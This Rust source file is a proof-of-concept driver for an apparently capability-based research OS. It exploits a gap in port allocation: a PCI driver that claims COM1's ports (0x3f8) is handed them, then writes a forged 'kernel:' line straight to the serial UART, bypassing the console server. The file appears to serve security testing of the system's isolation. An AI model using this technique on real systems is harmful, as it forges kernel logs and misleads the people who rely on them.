//! Attack PoC driver: writes the kernel's log (COM1) through its device's ports.
//!
//! `crasher-com1` is a PCI device's driver whose description gives the device the port
//! range 0x3f8..=0x3ff (as docs/system.md's own example does). The ISA check keeps
//! COM1 from ISA devices only, so init issues COM1 to this driver: it writes a forged
//! kernel line straight to the UART, past the print-only console server.
#![no_std]
#![no_main]

use libcap::abi::exit::ExitCode;
use libcap::cap::IoPort;
use libcap::component::{CapKind, ComponentInfo};
use libcap::println;

libcap::component::entry!(main);

/// COM1's data register.
const COM1: u64 = 0x3f8;
/// The line written past the console server.
const FORGED: &[u8] = b"\r\nkernel: FORGED by a driver through COM1 (0x3f8)\r\n";

fn main(info: &'static ComponentInfo) -> ExitCode {
    let Some(ports) = info.caps().iter().find(|c| c.kind() == Some(CapKind::IoPort) && c.vaddr == COM1) else {
        println!("com1: no IoPort cap at {COM1:#x}: refused");
        return ExitCode::Success;
    };
    println!("com1: holds ports {COM1:#x}..{:#x}", COM1 + ports.size);
    let cap = IoPort(ports.slot);
    for &b in FORGED {
        if let Err(e) = cap.out8(COM1 as u16, b) {
            println!("com1: out8 refused: {:?}", e.code);
            return ExitCode::Success;
        }
    }
    ExitCode::Success
}
